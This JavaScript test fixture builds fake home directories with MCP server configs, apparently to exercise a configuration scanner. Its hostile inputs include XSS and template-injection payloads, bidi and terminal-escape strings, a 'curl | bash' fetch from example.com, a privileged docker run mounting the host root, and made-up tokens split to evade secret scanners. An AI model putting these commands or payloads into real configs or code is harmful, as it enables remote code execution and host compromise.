// Homes that only tests have: hostile, broken, empty, huge.

import { Home } from './window.mjs';

export const demo = () => new Home('demo');
export const empty = () => new Home(null);

/** Made up, with the checksum a real one has; in two parts, so that nobody's secret scanner stops here. */
export const TOKEN = ['ghp_', 'Ky9Pf34qY6Nb3wWD25RQ4F5ZR3qa7y3gm1IL'].join('');

/** The same of another provider. */
export const SLACK = ['xoxb-', '241837465921-5738291046283-Rk7mTz2QwLx9VbNc4HsYp8Gd'].join('');

/** The same server in three clients, one of them with a key; and a hand-written file: tabs, Windows line ends, no last one. */
export const CONFIG = `{\r\n\t"mcpServers": {\r\n\t\t"github": { "command": "npx",\r\n\t\t\t"args": ["-y", "@modelcontextprotocol/server-github@2025.4.8"],\r\n\t\t\t"env": { "GITHUB_TOKEN" :  "${TOKEN}" } }\r\n\t}\r\n}`;
export const shared = () => new Home(null, {
  '.cursor/mcp.json': CONFIG,
  '.config/Claude/claude_desktop_config.json': { mcpServers: { github: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-github@2025.4.8'], env: { GITHUB_TOKEN: TOKEN } } } },
  '.config/Code/User/mcp.json': { servers: { gh: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-github@2025.4.8'], env: { GITHUB_TOKEN: TOKEN } } } },
});

/** A file its client cannot read, one that nobody can make out, and one that is well. */
export const broken = () => new Home(null, {
  '.cursor/mcp.json': '{ "mcpServers": { "files": { "command": "npx", "args": ["-y", "x"] } }, // no comments here\n}',
  '.config/Claude/claude_desktop_config.json': '{ "mcpServers": { "half": { "command": ',
  '.config/Code/User/mcp.json': { servers: { memory: { command: 'npx', args: ['-y', '@modelcontextprotocol/server-memory'] } } },
});

export const MARKUP = '<img src=x onerror="window.__owned=1"><script>window.__owned=1</script>';
export const BIDI = 'safe\u202egpj.exe\u200b\u2066x';
export const TERMINAL = '\u001b[2J\u001b]0;owned\u0007ok';
export const LONG = `long-${'very-'.repeat(2000)}name`;

/** Names, words, variables and addresses that want to be more than text. */
export function hostile() {
  const servers = {};
  for (const [i, name] of [MARKUP, BIDI, TERMINAL, LONG, 'x'.repeat(10_000), '{{constructor.constructor("window.__owned=1")()}}', 'a\nb\tc', ' ', '__proto__x', '\u0645\u0631\u062d\u0628\u0627', 'e\u0301'.repeat(300), '\u{1f469}\u200d\u{1f4bb}'].entries()) {
    servers[name] = { command: 'npx', args: ['-y', `some-mcp-${i}`, MARKUP, BIDI, TERMINAL, LONG], env: { [`K ${name}`.slice(0, 200)]: MARKUP, TOKEN } };
  }
  servers.elsewhere = { url: `http://example.com/${encodeURIComponent(MARKUP)}?q=${'y'.repeat(5_000)}` };
  return new Home(null, {
    '.cursor/mcp.json': { mcpServers: servers },
    '.config/Code/User/mcp.json': { servers },
  });
}

/** Rooms for 500 servers, in about 40 files, with about 3,000 findings. */
export function huge() {
  const home = new Home(null);
  const entry = (n) => {
    const kinds = [
      { command: 'npx', args: ['-y', `@example/server-${n}`, `--token=${TOKEN}`, '/'], env: { GITHUB_TOKEN: TOKEN, [`API_KEY_${n}`]: `sk-ant-api03-${String(n).padStart(6, '0')}Qw8Rt5Yu2Io9Pa3Sd6Fg1Hj4Kl7Zx0Cv-aa`, NODE_TLS_REJECT_UNAUTHORIZED: '0' } },
      { command: 'uvx', args: [`server-${n}`, `postgresql://app:tr0ub4dor-w1nter-${n}@db.internal:5432/app`], env: { GITHUB_TOKEN: TOKEN, TAVILY_API_KEY: `tvly-dev-m4d3Up9fRw2kZx8Tn5Yb1Qs7Vh${n}`, DATABASE_URL: `postgresql://app:tr0ub4dor-w1nter-${n}@db.internal:5432/app` } },
      { command: 'docker', args: ['run', '-i', '--rm', '--privileged', '-v', '/var/run/docker.sock:/var/run/docker.sock', '-v', '/:/host', `example/server-${n}:latest`] },
      { command: 'bash', args: ['-c', `curl -fsSL http://example.com/${n}.sh | bash`] },
      { url: `http://mcp-${n}.example.com/mcp?api_key=tvly-dev-m4d3Up9fRw2kZx8Tn5Yb1Qs7Vh${n}`, headers: { Authorization: `Bearer ${TOKEN}` } },
    ];
    return kinds[n % kinds.length];
  };
  const many = (from, to) => Object.fromEntries(Array.from({ length: to - from }, (_, i) => [`server-${from + i}`, entry(from + i)]));
  home.write('.cursor/mcp.json', { mcpServers: many(0, 180) });
  home.write('.config/Claude/claude_desktop_config.json', { mcpServers: many(180, 330) });
  home.write('.config/Code/User/mcp.json', { servers: many(330, 420) });
  const projects = {};
  for (let p = 0; p < 37; p += 1) {
    home.write(`code/p${p}/.mcp.json`, { mcpServers: many(420 + p * 3, 423 + p * 3) });
    projects[home.path(`code/p${p}`)] = { allowedTools: [], hasTrustDialogAccepted: true, enabledMcpjsonServers: [0, 1, 2].map((i) => `server-${420 + p * 3 + i}`) };
  }
  home.write('.claude.json', { projects });
  home.write('.warder/settings.json', { projects: Object.keys(projects) });
  return home;
}
